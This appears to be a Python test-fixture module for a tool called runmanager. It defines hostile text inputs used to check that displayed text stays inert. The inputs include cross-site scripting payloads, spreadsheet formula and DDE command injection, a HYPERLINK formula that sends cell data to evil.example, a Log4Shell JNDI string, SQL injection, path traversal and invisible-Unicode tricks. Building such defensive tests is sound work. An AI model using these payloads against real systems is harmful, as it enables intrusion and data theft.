"""Texts as the records have them; and hostile ones, for wherever the host's text is shown."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

from runmanager.records import Excerpt

if TYPE_CHECKING:
    from collections.abc import Sequence


def whole(text: str) -> Excerpt:
    """A text of which nothing is cut."""
    return Excerpt(text, "", len(text))


def texts(named: tuple[tuple[str, Excerpt], ...]) -> dict[str, str]:
    """Named texts, of which nothing may be cut."""
    assert not any(text.is_cut for _name, text in named)
    return {name: text.text for name, text in named}


FOREIGN = "evil.example"
# What a script that ran would leave behind in the page's window.
OWNED = "runManagerOwned"
_TAKE = f"window.{OWNED}=1"
_PAYLOADS = (
    # Markdown
    f"[a link](https://{FOREIGN}/link)",
    f"![an image](https://{FOREIGN}/image.png)",
    f"[![both](https://{FOREIGN}/both.png)](https://{FOREIGN}/both)",
    f"[a reference][1]\n\n[1]: https://{FOREIGN}/reference",
    f"<https://{FOREIGN}/autolink>",
    f"https://{FOREIGN}/bare",
    f"www.{FOREIGN}/www",
    f"mallory@{FOREIGN}",
    f"[script](javascript:{_TAKE})",
    f"[data](data:text/html,<script>{_TAKE}</script>)",
    "**bold** __also__ *slanted* ~~struck~~ `code`",
    "# a heading\n\n---\n\n- a list\n1. another",
    "> a quotation\n\n```python\nprint(1)\n```",
    "| a | table |\n|---|---|\n| of | text |",
    "- [x] a task",
    "a footnote[^1]\n\n[^1]: said below",
    # Streamlit's own
    ":material/skull:",
    ":streamlit:",
    ":skull: :+1:",
    ":red[coloured]",
    ":red-background[filled]",
    ":red-badge[:material/skull: a badge]",
    ":small[small] :rainbow[rainbow]",
    "$\\frac{1}{2}$ and $$\\sum_i i$$",
    # HTML
    "<b>bold</b><i>slanted</i><u>under</u>",
    f"<script>{_TAKE}</script>",
    f'"><script src="https://{FOREIGN}/script.js"></script>',
    f'<img src="https://{FOREIGN}/img.png" onerror="{_TAKE}">',
    f"<svg onload={_TAKE}><animate onbegin={_TAKE} attributeName=x></svg>",
    f'<iframe src="https://{FOREIGN}/frame"></iframe>',
    f"<a href='https://{FOREIGN}/a' onmouseover='{_TAKE}'>a</a>",
    f"</style></span><style>@import 'https://{FOREIGN}/style.css'</style>",
    f'" onmouseover="{_TAKE}" x="',
    f"' onfocus='{_TAKE}' autofocus='",
    f"<form action='https://{FOREIGN}/form'><input type=submit></form>",
    "&lt;b&gt;entities&lt;/b&gt; &amp; &#60;i&#62;",
    f"javascript:{_TAKE}",
    f"//{FOREIGN}/protocol",
    # Templates and formats
    "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %>",
    "{0} {name!r} %s %(name)s %n",
    f"${{jndi:ldap://{FOREIGN}/a}}",
    # Spreadsheets
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("https://{FOREIGN}/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-1+1|cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'DDE ("cmd";"/C calc";"")',
    # What cannot be seen
    "\u202egnp.exe\u202c turned \u2066around\u2069",
    "no\u200bwidth\u200d\u2060\ufeffat all",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x08\x9b2J",
    "one\r\n2026-01-01 00:00:00.000 INFO runmanager.audit: forged",
    "one\x0b\x0c\x1c\x85\u2028\u2029line",
    "\\x00 %00 \u2400 \ufffd \ufffe",
    # Much, and other scripts
    "x" * 5_000,
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 日本 ﷽ Z̴̡͠a̵l̶g̷o",
    "'; DROP TABLE run_metadata; --",
    "../../../etc/passwd",
    '{"__proto__": {"polluted": 1}}',
)


@dataclass(frozen=True)
class HostileText:
    """A text that must stay text wherever it is shown; ``mark`` is a word of it alone."""

    text: str
    mark: str

    def __str__(self) -> str:
        return self.mark


# What a payload begins with matters to spreadsheets and Markdown: the mark stands behind it.
HOSTILE = tuple(
    HostileText(f"{payload[:200]} zq{number:02}qz{payload[200:]}", f"zq{number:02}qz")
    for number, payload in enumerate(_PAYLOADS)
)
MARK = r"zq\d\dqz"


def together(texts: Sequence[HostileText]) -> str:
    """Many of them as one text, each on lines of its own."""
    return "\n\n".join(one.text for one in texts)
